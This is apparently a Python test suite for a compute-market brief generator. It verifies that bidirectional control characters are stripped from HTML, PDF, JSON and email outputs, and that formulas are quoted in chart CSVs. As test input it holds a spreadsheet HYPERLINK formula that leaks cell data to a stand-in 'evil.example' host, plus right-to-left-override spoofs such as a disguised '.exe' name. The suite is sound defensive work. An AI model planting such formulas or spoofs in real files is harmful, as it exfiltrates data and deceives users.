"""Safe exports of the brief (issue 15, item 5): no bidirectional control from the data reaches the
HTML, the PDF, metrics.json or the email; the chart CSVs neutralise text a spreadsheet would evaluate.

The fast tests work on the Jinja environments, the input cleaning, the CSV writer and the email
composer; one slow test renders a real brief (one PDF) from the bundled warehouse's model outputs
with hostile names in its data."""

import base64
import csv
import io
import json
from dataclasses import replace
from datetime import date

import pandas as pd
import pytest

from common.exports import BIDI_CONTROLS
from reports import brief
from reports.inputs import BriefInputs
from reports.mail_message import BriefArchive, compose, compose_alert

RLO = "\u202e"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _clean(text: str) -> bool:
    return BIDI_CONTROLS.isdisjoint(text)


def test_the_brief_templates_output_no_bidi_control_and_still_escape():
    env = brief._environment()
    template = env.from_string('<p title="{{ name }}">{{ name }} {{ name | upper }} {{ "%s!" % name }}</p>')
    html = template.render(name="NVIDIA H100 " + RLO + "MXS <b>")
    assert _clean(html)
    assert html == ('<p title="NVIDIA H100 MXS &lt;b&gt;">NVIDIA H100 MXS &lt;b&gt; NVIDIA H100 MXS &lt;B&gt; '
                    'NVIDIA H100 MXS &lt;b&gt;!</p>')


def _inputs(**kw) -> BriefInputs:
    base = dict(partition="2025-06", as_of=date(2025, 6, 30), scenario="base", seed=1, snapshot_hash="ab" * 32,
                code_version="test", model={}, methodology="", data_sources=pd.DataFrame(),
                campuses=pd.DataFrame(), mlperf=pd.DataFrame())
    return BriefInputs(**(base | kw))


def test_render_brief_strips_bidi_controls_from_every_input_text():
    clean_demand = pd.DataFrame({"scenario": ["base"], "p50": [-0.5]})
    fit = pd.DataFrame({"accelerator_name": ["H100 " + RLO + "MXS"], "score": [0.5]})
    inputs = _inputs(model={"demand": clean_demand, "hardware_fit": fit},
                     campuses=pd.DataFrame({"campus_name": ["\u2066Abilene\u2069"], "planned_power_mw": [1200.0]}),
                     methodology="a\u200fb", previous={"metrics": {"x": {"label": "l" + RLO}}},
                     revisions=[{"basis": "rebuilt\u061c"}])
    out = brief.without_bidi_inputs(inputs)
    assert out.model["hardware_fit"]["accelerator_name"].tolist() == ["H100 MXS"]
    assert out.model["demand"] is clean_demand  # nothing to strip: not copied
    assert out.campuses["campus_name"].tolist() == ["Abilene"]
    assert (out.methodology, out.previous, out.revisions) == ("ab", {"metrics": {"x": {"label": "l"}}},
                                                              [{"basis": "rebuilt"}])
    assert fit["accelerator_name"].iloc[0] == "H100 " + RLO + "MXS"  # the caller's frame is untouched


def test_chart_csvs_quote_formulas_and_keep_numbers():
    frame = pd.DataFrame({"accelerator_name": [HYPERLINK, "H100 " + RLO + "MXS", "-3"],
                          "training_fit_score": [0.25, -0.5, 1.0]})
    data = brief.chart_csv_files({"hardware_fit": frame})["hardware_fit"].decode()
    assert _clean(data)
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows == [["accelerator_name", "training_fit_score"], ["'" + HYPERLINK, "0.25"], ["H100 MXS", "-0.5"],
                    ["-3", "1.0"]]


def test_email_subject_and_bodies_carry_no_bidi_control():
    metrics = {"partition": "2026-10", "scenario": "base" + RLO, "snapshot_hash": "ab" * 32,
               "takeaways": ["Inference " + RLO + "tsael ta si 61%."],
               "metrics": {"inference_share_accelerator_hours_now": {
                   "value": 0.613, "unit": "share", "label": "x", "p10": 0.5, "p90": 0.7, "year": 2026}},
               "changes": [{"name": "inference_share_accelerator_hours_now", "label": "share \u202bx",
                            "before": "58%", "after": "61%", "delta": "+3.1 " + RLO + "points"}]}
    message = compose(BriefArchive(partition="2026-10", pdf=b"%PDF-1.7", metrics=metrics), "f@example.org",
                      "r@example.org", note="test " + RLO + "copy")
    subject = message["Subject"]
    plain = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()
    for text in (subject, plain, html):
        assert _clean(text), text
    assert subject == "[TEST COPY] AI compute 2026-10: inference 61% of generative accelerator-hours in 2026 (+3.1 pts)"
    assert "Inference tsael ta si 61%." in plain and "Inference tsael ta si 61%." in html
    alert = compose_alert("f@example.org", "o@example.org", "source " + RLO + "gpj.exe failed",
                          "detail \u2067x\u2069")
    assert alert["Subject"] == "[flopcast alert] source gpj.exe failed"
    assert alert.get_content().strip() == "detail x"


@pytest.fixture(scope="module")
def hostile_brief(warehouse_inputs, bundled_warehouse):
    """One real brief (HTML and PDF) from the bundled snapshot's model outputs, with a right-to-left
    override in the reference chip's name and in a campus name, and a formula as another chip's name."""
    from models.run import run_model
    from reports.metrics import REFERENCE_MODEL

    as_of = date(2025, 6, 30)
    runs = [run_model(warehouse_inputs, scenario=name, as_of=as_of, draws=2000, snapshot_hash="ab" * 32)
            for name in ("base", "bear", "bull")]
    model = {name: pd.concat([r.tables()[name] for r in runs], ignore_index=True) for name in runs[0].tables()}
    fit = model["hardware_fit"].copy()
    reference = "nvidia-h100-sxm"
    scored = fit[(fit["reference_model"] == REFERENCE_MODEL) & fit["training_fit_score"].notna()
                 & fit["inference_fit_score"].notna() & (fit["accelerator_id"] != reference)]
    other = scored.sort_values("training_fit_score", ascending=False)["accelerator_id"].iloc[0]
    fit.loc[fit["accelerator_id"] == reference, "accelerator_name"] = "NVIDIA H100 " + RLO + "MXS"
    fit.loc[fit["accelerator_id"] == other, "accelerator_name"] = HYPERLINK
    model["hardware_fit"] = fit
    campuses = bundled_warehouse.frame("select * from marts.dim_datacenter_campus")
    campuses = campuses.sort_values("planned_power_mw", ascending=False, na_position="last").reset_index(drop=True)
    campuses.loc[0, "campus_name"] = "Campus " + RLO + "dlrow"
    sources = pd.DataFrame([{
        "source_name": "snapshot_accelerators", "landing_sha256": "cd" * 32,
        "landing_url": "data/snapshot/accelerators.csv", "licence": "CC BY 4.0", "source_mode": "bundled",
        "fetched_at": "2026-11-01T00:00:00Z", "is_stale": False, "row_count": 48,
        "attribution": "Data " + RLO + "IA hcopE", "vintage": "flopcast compilation, retrieved 2026-11-26"}])
    inputs = _inputs(as_of=as_of, model=model, methodology=runs[0].methodology, data_sources=sources,
                     campuses=campuses, installed_base=warehouse_inputs.as_of(as_of).installed_base)
    return brief.render_brief(replace(inputs, seed=20240101))


def test_a_real_brief_shows_no_bidi_control_anywhere_and_its_csvs_are_safe(hostile_brief):
    from pypdf import PdfReader

    rendered = hostile_brief
    files = rendered.archive_files()
    assert _clean(rendered.html) and "NVIDIA H100 MXS" in rendered.html and "Campus dlrow" in rendered.html
    pdf_text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(rendered.pdf)).pages)
    assert _clean(pdf_text) and "H100 MXS" in pdf_text and "Campus dlrow" in pdf_text
    for name, uri in rendered.chart_uris.items():
        if uri:
            assert _clean(base64.b64decode(uri.split(",", 1)[1]).decode()), name
    metrics_text = files["metrics.json"].decode()
    assert "\\u202e" not in metrics_text and _clean(json.loads(metrics_text).__repr__())
    assert "NVIDIA H100 MXS" in metrics_text
    for name, data in files.items():
        if name.endswith(".csv"):
            text = data.decode()
            assert _clean(text), name
            for row in csv.reader(io.StringIO(text, newline="")):
                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), (name, row)
    fit_rows = list(csv.DictReader(io.StringIO(files["charts/hardware_fit.csv"].decode(), newline="")))
    names = [row["accelerator_name"] for row in fit_rows]
    assert "'" + HYPERLINK in names and "NVIDIA H100 MXS" in names
    assert all(float(row["training_fit_score"]) >= 0 for row in fit_rows)  # numbers stay numbers
    message = compose(BriefArchive(partition="2025-06", pdf=rendered.pdf, metrics=json.loads(metrics_text)),
                      "f@example.org", "r@example.org")
    assert _clean(message["Subject"])
    assert _clean(message.get_body(("plain",)).get_content()) and _clean(message.get_body(("html",)).get_content())
